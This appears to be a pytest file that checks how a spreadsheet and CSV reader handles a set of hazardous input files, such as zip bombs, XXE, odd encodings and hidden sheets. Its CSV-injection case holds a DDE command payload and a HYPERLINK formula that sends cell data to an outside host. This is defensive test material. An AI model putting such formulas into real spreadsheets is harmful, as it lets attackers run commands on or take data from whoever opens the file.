"""Each of the hazardous files: what comes out of it, or which message; none may harm the program."""

from __future__ import annotations

import time
from collections.abc import Iterator, Mapping
from concurrent.futures import Future, ThreadPoolExecutor
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import NamedTuple

import pytest

from designer.formats.excel.reading import CannotRead, read
from designer.formats.tables.mapping import propose
from designer.formats.tables.tables import Table, tables
from designer.formats.tables.workbook import Workbook

pytestmark = pytest.mark.shared_data

HAZARDS = Path(__file__).resolve().parents[3].parent / "shared" / "data" / "hazards"

FULL = ("Level", "Severity", "Name", "Role", "Team", "Phone", "Mobile", "Email", "Hours", "Backup", "Escalate after")
FULL_FIELDS = (
    "level",
    "severity",
    "name",
    "role",
    "team",
    "phone",
    "mobile",
    "email",
    "hours",
    "backup",
    "escalate_after",
)
ADA = ("1", "P1", "Ada Example", "Duty manager", "NOC", "+44 20 7946 0001", "+44 7700 900001", "ada@example.org", "24x7", "Bo Example", "30 min")  # fmt: skip
BO = ("2", "P1", "Bo Example", "Ops lead", "NOC", "+44 20 7946 0002", "+44 7700 900002", "bo@example.org", "Mon-Fri 08-18", "Cy Example", "2 hrs")  # fmt: skip
CSV = ("Level", "Name", "Phone", "E-Mail", "Bemerkung")
CSV_FIELDS = ("level", "name", "phone", "email", "notes")
JOERG = ("1", "Jörg Müßig", "+44 20 7946 0001", "joerg@example.org", "café – „Bereitschaft“")
ZOE = ("2", 'Zoë, "Z" O\'Neil', "07700 900001", "zoe@example.org", "multi\nline")


@dataclass(frozen=True)
class Reads:
    """A table that comes out: its header row, headers, fields, rows (texts), and what is told about the file.

    `rows` may be a number where the texts are plain; `table` and `sheet` say which one is meant.
    """

    headers: tuple[str, ...]
    rows: tuple[tuple[str, ...], ...] | int
    fields: tuple[str | None, ...] = ()
    header_row: int | None = 1
    title: str = ""
    sheet: str = "Contacts"
    table: int = 0
    tables: int = 1
    problems: tuple[tuple[str, str], ...] = ()
    kind: str = "xlsx"
    encoding: str = ""
    notes: tuple[str, ...] = ()
    values: Mapping[str, str] = field(default_factory=dict)
    links: Mapping[str, str] = field(default_factory=dict)


@dataclass(frozen=True)
class Refuses:
    """A message with this code comes, naming the file."""

    code: str


def full(*rows: tuple[str, ...], **more: object) -> Reads:
    return Reads(FULL, rows, FULL_FIELDS, **more)  # type: ignore[arg-type]


def name_only(**more: object) -> Reads:
    return Reads(("Name",), (("Ada",),), ("name",), **more)  # type: ignore[arg-type]


def text(kind: str, **more: object) -> Reads:
    certain = more.pop("certain", True)
    told = () if certain else (("guessed_encoding", ""),)
    return Reads(CSV, (JOERG, ZOE), CSV_FIELDS, kind="csv", sheet=more.pop("sheet"), encoding=kind, problems=told)  # type: ignore[arg-type]


LIBRE = full(
    ADA,
    ("1", *BO[1:]),
    ("", "", "", "", "00:30", "30:00"),
    notes=("2026-12-31",),
)

EXPECTED: dict[str, Reads | Refuses | tuple[Reads, ...]] = {
    "01_header_row6.xlsx": full(
        ADA, BO, header_row=6, notes=("Call P1 within 5 minutes. Do not e-mail.",),
        title="ACME Operations – Escalation contacts\nValid until 31 Dec 2026   Owner: NOC   Version 3.2",
    ),
    "02_two_row_header.xlsx": Reads(
        ("Level", "Name", "Office hours: Phone", "Office hours: Mobile", "Out of hours: Phone", "Out of hours: Mobile", "E-mail"),
        (("1", "Ada Example", "+44 20 7946 0001", "+44 7700 900001", "+44 20 7946 0009", "+44 7700 900009", "ada@example.org"),),
        ("level", "name", "phone", "mobile", "phone", "mobile", "email"),
        header_row=2,
    ),
    "03_merged_level_column.xlsx": full(ADA, ADA, ("2", *ADA[1:]), ("2", *ADA[1:])),
    "04_several_tables.xlsx": (
        Reads(("Level", "Name", "Phone"), (("1", "Ada Example", "+44 20 7946 0001"), ("2", "Bo Example", "+44 20 7946 0002")),
              ("level", "name", "phone"), header_row=2, title="Severity 1", tables=3),
        Reads(("Vendor", "Hotline"), (("Telco", "0800 000 000"),), ("organisation", "phone"), header_row=2,
              title="Severity 1", table=1, tables=3),
        Reads(("Level", "Name", "Phone"), (("1", "Cy Example", "+44 20 7946 0003"),), ("level", "name", "phone"),
              header_row=8, title="Severity 2", table=2, tables=3),
    ),
    "05_sheets_hidden_veryhidden.xlsx": (
        full(ADA, problems=(("hidden_sheet", ""), ("hidden_sheet", ""))),
        full(BO, sheet="P2", problems=(("hidden_sheet", ""), ("hidden_sheet", ""))),
        full(BO, sheet="Old 2019", problems=(("hidden_sheet", ""), ("hidden_sheet", ""))),
        full(BO, sheet="_lists", problems=(("hidden_sheet", ""), ("hidden_sheet", ""))),
    ),
    "06_hidden_filtered.xlsx": full(BO, ADA, BO, ADA, problems=(("hidden_rows", ""), ("hidden_columns", ""))),
    "07_phones_as_numbers.xlsx": Reads(
        ("Name", "Phone", "Note"), 8, ("name", "phone", "notes"), problems=(("precision", "B8"),),
        values={"B2": "441234500000", "B3": "7700900001", "B4": "447700900001", "B5": "07700900001", "B6": "(207) 946-0001",
                "B7": "07700900001", "B9": "447700900001"},
    ),
    "08_escalate_after_types.xlsx": Reads(
        ("Kind", "Escalate after"), 11, (None, "escalate_after"),
        values={"B2": "30 min", "B4": "00:30", "B5": "30:00", "B6": "0.0208333", "B7": "30", "B9": "2025-01-15",
                "B10": "2026-11-22 00:30", "B11": "30 min", "B12": "30:00"},
    ),
    "09_formula_no_cache.xlsx": Reads(
        ("Name", "First", "Last", "Phone"), (("", "Ada", "Example", "+44 20 7946 0001"),),
        ("name", "first_name", "last_name", "phone"), problems=(("no_value", "A2"),),
        links={"D2": "tel:+442079460001"},
    ),
    "09b_formula_cached.xlsx": Reads(("Name", "Phone"), (("Ada Example", "+44 20 7946 0001"),), ("name", "phone")),
    "10_errors.xlsx": Reads(
        ("Name", "Phone", "Email"), (("Ada",), ("Bo", "", "TRUE")), ("name", "phone", None),
        problems=(("error_value", "B2"), ("error_value", "B3"), ("error_value", "C2")),
    ),
    "11_rich_text.xlsx": Reads(
        ("Name", "Phone"), (("Ada Example", "+44 20 7946 0002"),), ("name", "phone"),
        problems=(("struck_out", "B2"),),
    ),
    "12_hyperlink_target_only.xlsx": Reads(
        ("Name", "Email", "Phone"), (("Ada", "Mail Ada", "call"),), ("name", "email", "phone"),
        links={"B2": "mailto:ada@example.org?subject=P1", "C2": "tel:+442079460001"},
    ),
    "13_invisible_chars.xlsx": Reads(
        ("Name", "E-Mail", "Phone", "Mobile\n(24h)"),
        (("Ada Example", "ada@example.org", "+44 20 7946-0001", "+44 7700 900001"),),
        ("name", "email", "phone", "mobile"),
    ),
    "14_date1904.xlsx": Reads(
        ("Name", "Valid until", "Escalate after"), (("Ada", "2026-12-31", "0:30"),), ("name", None, "escalate_after"),
        sheet="Sheet",
    ),
    "15_ghost_format.xlsx": full(ADA),
    "15b_ghost_rows_200k.xlsx": full(ADA),
    "16_strict.xlsx": Reads(("Name", "Phone", "Valid until"), (("Ada", "+44 20 7946 0001", "2026-12-31"),), ("name", "phone", None)),
    "17_duplicate_headers.xlsx": Reads(
        ("Name", "Phone", "Phone", "Email", "Email", "Name"),
        (("Ada", "+44 20 7946 0001", "+44 7700 900001", "a@example.org", "b@example.org", "NOC"),),
        ("name", "phone", "mobile", "email", "email", "name"),
    ),
    "18_localized_headers.xlsx": tuple(
        Reads(headers, 1, FULL_FIELDS, sheet=sheet, values={} if sheet != "ar" else {"F2": "٠١٢٣٤٥٦٧٨٩"})
        for sheet, headers in {
            "de": ("Stufe", "Dringlichkeit", "Nachname, Vorname", "Funktion", "Abteilung", "Tel. geschäftlich", "Handy", "E-Mail",
                   "Erreichbarkeit", "Vertretung", "Eskalation nach"),
            "fr": ("Niveau", "Gravité", "Nom", "Fonction", "Service", "Tél. bureau", "Portable", "Courriel", "Horaires",
                   "Remplaçant", "Escalade après"),
            "es": ("Nivel", "Severidad", "Nombre y apellidos", "Cargo", "Departamento", "Teléfono", "Móvil",
                   "Correo electrónico", "Horario", "Suplente", "Escalar tras"),
            "ar": ("المستوى", "الأهمية", "الاسم", "المسمى الوظيفي", "الإدارة", "الهاتف", "الجوال", "البريد الإلكتروني",
                   "ساعات العمل", "البديل", "التصعيد بعد"),
        }.items()
    ),
    "19_phone_zoo.xlsx": Reads(("Name", "Phone"), 37, ("name", "phone"), values={"B2": "+44 20 7946 0001", "B30": "ask switchboard"}),
    "20_names_emails.xlsx": Reads(("Name", "Email"), 8, ("name", "email"), values={"A2": "Example, Ada", "B2": "Ada Example <ada@example.org>"}),
    "21_macro.xlsm": full(ADA, problems=(("macros", ""),)),
    "22_external_link.xlsx": Reads(("Name", "Phone"), (("Ada", "+44 20 7946 0001"),), ("name", "phone")),
    "23_truncated.xlsx": Refuses("truncated"),
    "23b_empty.xlsx": Refuses("empty_file"),
    "23c_html_named.xlsx": Reads(("Name",), (), ("name",), kind="html", sheet="23c_html_named", problems=(("other_format", ""),)),
    "23d_csv_named.xlsx": Reads(("Name", "Phone"), (("Ada", "+44"),), ("name", "phone"), kind="csv", sheet="23d_csv_named",
                                problems=(("other_format", ""),)),
    "23e_bitrot.xlsx": Refuses("damaged"),
    "24_zip_bomb_300MB.xlsx": Refuses("too_large"),
    "25_billion_laughs.xlsx": Refuses("unsafe"),
    "25c_xxe.xlsx": Refuses("unsafe"),
    "25f_cell_40k_chars.xlsx": Reads(("Name",), (("x" * 32_767,),), ("name",), problems=(("too_long", "2"),)),
    "25g_far_cell.xlsx": Reads(("Name",), (), ("name",), problems=(("too_many_columns", "SS1048576"),)),
    "25h_wrong_dimension.xlsx": full(ADA),
    "25i_no_cell_refs.xlsx": Reads(("Name", "Phone"), (("Ada", "+44 20 7946 0001"),), ("name", "phone")),
    "25j_rows_out_of_order.xlsx": Reads(("Name", "Phone"), (("Ada", "1"), ("Bo", "2")), ("name", "phone")),
    "25k_bad_style_index.xlsx": name_only(),
    "25l_shared_index_oob.xlsx": Refuses("damaged"),
    "25m_bad_font_family.xlsx": name_only(),
    "25n_bad_datavalidation.xlsx": name_only(),
    "25o_date_out_of_range.xlsx": Reads(
        ("Name", "Valid until"), (("Ada", "9999999999"), ("Bo",)), ("name", None),
        problems=(("date_out_of_range", "B2"), ("date_out_of_range", "B3")),
    ),
    "25p_merged_overlap.xlsx": Reads(("Name", "Phone"), (("Ada", "1"),), ("name", "phone")),
    "25q_control_chars.xlsx": Reads(("Name",), (("AdaBell_x0041_",),), ("name",)),
    "25r_empty_fill_element.xlsx": name_only(),
    "25s_lol_styles.xlsx": Refuses("unsafe"),
    "25t_lol_workbook.xlsx": Refuses("unsafe"),
    "25u_quadratic.xlsx": Refuses("unsafe"),
    "26_cp1251_semicolon.csv": Reads(
        ("Фамилия", "Имя", "Телефон"), (("Иванов", "Иван", "+7 495 000-00-00"),), ("last_name", "first_name", "phone"),
        kind="csv", sheet="26_cp1251_semicolon", encoding="cp1251", problems=(("guessed_encoding", ""),),
    ),
    "26_cp1252_semicolon.csv": text("cp1252", sheet="26_cp1252_semicolon", certain=False),
    "26_injection.csv": Reads(
        ("Name", "Phone"),
        (('=HYPERLINK("http://x.example/?"&A1,"Ada")', "+44 20 7946 0001"), ("=cmd|' /C calc'!A0", "@SUM(1)")),
        ("name", "phone"), kind="csv", sheet="26_injection",
    ),
    "26_mac_roman_cr.csv": text("mac_roman", sheet="26_mac_roman_cr", certain=False),
    "26_shiftjis.csv": Reads(
        ("名前", "電話", "メール"), (("山田 太郎", "03-0000-0000", "taro@example.org"),), ("name", "phone", "email"),
        kind="csv", sheet="26_shiftjis", encoding="shift_jis", problems=(("guessed_encoding", ""),),
    ),
    "26_utf16_nobom.csv": text("utf-16-le", sheet="26_utf16_nobom"),
    "26_utf16le_tab.csv": text("utf-16", sheet="26_utf16le_tab"),
    "26_utf8_semicolon_sep_line.csv": text("utf-8", sheet="26_utf8_semicolon_sep_line"),
    "26_utf8bom_comma.csv": text("utf-8-sig", sheet="26_utf8bom_comma"),
    "27_base.xlsx": LIBRE,
    "27_lo.fods": replace(LIBRE, kind="fods"),
    "27_lo.ods": replace(LIBRE, kind="ods"),
    "27_lo.xls": replace(LIBRE, kind="xls", problems=(("less_known", ""),)),
    "27_lo_resaved.xlsx": LIBRE,
    "28_encrypted_agile.xlsx": Refuses("password"),
    "28_sheet_protected_only.xlsx": full(ADA),
}  # fmt: skip


class Outcome(NamedTuple):
    workbook: Workbook | None
    refusal: CannotRead | None
    seconds: float


def _read(name: str) -> Outcome:
    start = time.monotonic()
    try:
        return Outcome(read(HAZARDS / name), None, time.monotonic() - start)
    except CannotRead as refusal:
        return Outcome(None, refusal, time.monotonic() - start)


@pytest.fixture(scope="module")
def outcomes() -> Iterator[Mapping[str, Future[Outcome]]]:
    with ThreadPoolExecutor(2) as pool:
        yield {name: pool.submit(_read, name) for name in EXPECTED}


def _table(workbook: Workbook, expected: Reads) -> Table:
    sheet = next(each for each in workbook.sheets if each.name == expected.sheet)
    found = tables(sheet)
    assert len(found) == expected.tables
    return found[expected.table]


def test_every_hazard_has_an_expected_outcome() -> None:
    assert set(EXPECTED) == {path.name for path in HAZARDS.iterdir()}


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_hazard(name: str, outcomes: Mapping[str, Future[Outcome]]) -> None:
    outcome = outcomes[name].result()
    assert outcome.seconds < 20
    expected = EXPECTED[name]
    if isinstance(expected, Refuses):
        assert outcome.refusal is not None
        assert (outcome.refusal.code, name in outcome.refusal.message) == (expected.code, True)
        return
    assert outcome.workbook is not None, outcome.refusal
    for each in expected if isinstance(expected, tuple) else (expected,):
        _check(outcome.workbook, each)


def _check(workbook: Workbook, expected: Reads) -> None:
    table = _table(workbook, expected)
    assert workbook.kind == expected.kind
    assert (workbook.encoding.name if workbook.encoding else "") == (
        expected.encoding or ("utf-8" if expected.kind in ("csv", "html") else "")
    )
    assert (table.header_row, table.headers, table.title) == (expected.header_row, expected.headers, expected.title)
    if isinstance(expected.rows, int):
        assert len(table.rows) == expected.rows
    else:
        assert tuple(row.texts for row in table.rows) == expected.rows
    assert tuple(line.text for line in table.notes) == expected.notes
    mapping = propose(table)
    assert tuple(column.field if column.used else None for column in mapping.columns) == expected.fields
    assert sorted((problem.code, problem.cell) for problem in workbook.problems) == sorted(expected.problems)
    values = {table.cell_name(row.number, at): text for row in table.rows for at, text in enumerate(row.texts)}
    assert {cell: values.get(cell) for cell in expected.values} == dict(expected.values)
    links = {
        table.cell_name(row.number, at): table.link(row.number, at)
        for row in table.rows
        for at in range(len(row.texts))
    }
    assert {cell: links.get(cell) for cell in expected.links} == dict(expected.links)


def test_an_encrypted_workbook_opens_with_its_password() -> None:
    workbook = read(HAZARDS / "28_encrypted_agile.xlsx", password="secret")
    assert workbook.sheets[0].rows[1].texts == ADA


def test_a_wrong_password_is_told_from_a_missing_one() -> None:
    with pytest.raises(CannotRead) as refusal:
        read(HAZARDS / "28_encrypted_agile.xlsx", password="guess")
    assert refusal.value.code == "wrong_password"
